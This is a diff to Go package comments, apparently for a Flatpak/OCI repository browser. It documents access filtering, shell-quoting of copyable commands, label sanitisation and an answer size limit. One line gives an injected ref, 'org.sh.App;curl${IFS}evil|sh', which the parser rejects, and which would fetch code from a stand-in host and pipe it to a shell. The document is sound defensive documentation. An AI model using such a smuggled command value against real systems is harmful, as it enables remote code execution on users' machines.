@@ -23,10 +23,27 @@
 //
 // # Safety
 //
+// Access (V14): with Options.CanRead, every page, the search API, the
+// counts, the architectures offered as filters and the icons linked show
+// only readable repositories; an app with builds in readable and hidden
+// repositories is described, ranked and matched from its readable builds
+// only. A hidden repository is answered exactly as a missing one, on
+// every sub-page (same status, same page). The icons themselves are served
+// by package flatpak, which applies the same filter (flatpak.Access).
+//
+// Commands: every value put into a command shown next to a Copy button
+// (remote names, URLs, Flatpak ids, repository names, tags, digests) is
+// single-quoted for the shell (shellQuote), valid or not; and an image is
+// an app only if its org.flatpak.ref is one flatpak accepts
+// (flatpak.ParseRef), so a ref such as "org.sh.App;curl${IFS}evil|sh" makes
+// no app, page, search result or command.
+//
 // Labels, annotations and AppStream text are untrusted. Every such string
 // has its control characters (C0 but tab and newline, C1, bidirectional
 // overrides) removed and invalid UTF-8 replaced before a template sees it,
-// and html/template escapes it for its context (V20, V26). Links taken from
+// and html/template escapes it for its context (V20, V26); platform and
+// media type strings from configs, manifests and index platforms are
+// cleaned to one line of at most 255 bytes when the snapshot is built. Links taken from
 // AppStream data are kept only when they are http or https. Screenshots in
 // AppStream data are remote URLs, which the Content-Security-Policy does not
 // let the page load, so they are offered as links.
@@ -59,7 +76,9 @@
 //	  }]
 //	}
 //
-// Arrays are never null. Parameters: q (free text; empty lists everything),
+// Arrays are never null. An answer is at most Options.MaxAnswerBytes
+// (default 4 MiB): a page whose results would pass it lists the first
+// that fit and adds "truncated": true. Parameters: q (free text; empty lists everything),
 // kind, arch (OCI names, or Flatpak's x86_64, aarch64, i386, arm), page,
 // per_page. Ranking: an exact id, name or last id component first, then a
 // prefix of one of them (or of a word of the name), then a substring of
